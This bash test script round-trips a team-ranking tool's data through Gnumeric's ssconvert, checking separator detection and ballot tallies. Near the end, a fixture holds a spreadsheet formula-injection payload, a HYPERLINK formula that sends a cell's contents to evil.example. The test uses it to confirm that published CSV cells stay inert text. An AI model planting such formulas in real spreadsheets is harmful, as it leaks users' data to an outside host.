#!/usr/bin/env bash
# Round-trips examples/week12.txt through a real spreadsheet program (Gnumeric's ssconvert) with
# the README's settings: --check finds nothing in what comes back, and a load of it shows the
# same table as a load of the original. The default export is then checked to be named.
#   tests/app/spreadsheet_test.sh path/to/hoops-ranking
set -euo pipefail
exe="$(realpath "$1")"
cd "$(dirname "$0")/../.."
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
tab="$(printf '\t')"

ssconvert -I Gnumeric_stf:stf_csvtab examples/week12.txt "$work/week12.gnumeric" 2>/dev/null
ssconvert -T Gnumeric_stf:stf_assistant \
  -O "separator='$tab' quoting-mode=never format=preserve eol=unix" \
  "$work/week12.gnumeric" "$work/through.txt" 2>/dev/null
"$exe" --check "$work/through.txt"

table() { printf '\n1\n%s\n8\n9\n\n' "$1" | "$exe" 2>&1 | sed -n '/^Enter an option:      Team/,/^$/p'; }
diff <(table examples/week12.txt) <(table "$work/through.txt")

# The default export (comma-separated, text in quotes) is not loaded in silence.
ssconvert -T Gnumeric_stf:stf_csv "$work/week12.gnumeric" "$work/default.csv" 2>/dev/null
if "$exe" --check "$work/default.csv" > "$work/findings.txt"; then
  echo "the default export was not named"
  exit 1
fi
grep -q "commas where tabs belong" "$work/findings.txt"

# The week's ballots through the spreadsheet, exported with its default settings and with
# semicolons (a European locale's), tally to the same bytes as the tab-separated ballots.
ballots=examples/week13-ballots/web-form.csv
ssconvert -I Gnumeric_stf:stf_csvtab "$ballots" "$work/ballots.gnumeric" 2>/dev/null
ssconvert -T Gnumeric_stf:stf_csv "$work/ballots.gnumeric" "$work/ballots-default.csv" 2>/dev/null
ssconvert -T Gnumeric_stf:stf_assistant -O "separator=; quoting-mode=always eol=windows" \
  "$work/ballots.gnumeric" "$work/ballots-semicolon.csv" 2>/dev/null
tr ',' '\t' < "$ballots" > "$work/ballots.tsv"
tally() {
  "$exe" --tally examples/week12.txt --teams examples/teams.txt "$1" \
    "examples/week13-ballots/Sam Ortega.txt"
}
tally "$work/ballots.tsv" > "$work/week-tabs.txt"
for export in default semicolon; do
  grep -q "$([ $export = default ] && echo , || echo ';')" "$work/ballots-$export.csv"
  tally "$work/ballots-$export.csv" | cmp - "$work/week-tabs.txt"
done

# Names a spreadsheet would compute are published as text: opened in the spreadsheet, the CSV's
# cells hold the names, not 2 and a live link.
printf 'March 9 2025\n1\t=1+1\t1-0\t20\t-\n2\t=HYPERLINK("http://evil.example/?"&A1,"x")\t1-0\t10\t-\n' \
  > "$work/formulas.txt"
"$exe" --publish csv "$work/formulas.txt" --output "$work/formulas.csv"
ssconvert -I Gnumeric_stf:stf_csvtab "$work/formulas.csv" "$work/formulas.gnumeric" 2>/dev/null
ssconvert -T Gnumeric_stf:stf_csv "$work/formulas.gnumeric" "$work/formulas-back.csv" 2>/dev/null
cut -d, -f2 "$work/formulas-back.csv" | sed -n 2p | grep -qx '=1+1'
grep -q '=HYPERLINK(""http://evil.example/?""&A1' "$work/formulas-back.csv"
echo "spreadsheet round trip passed"
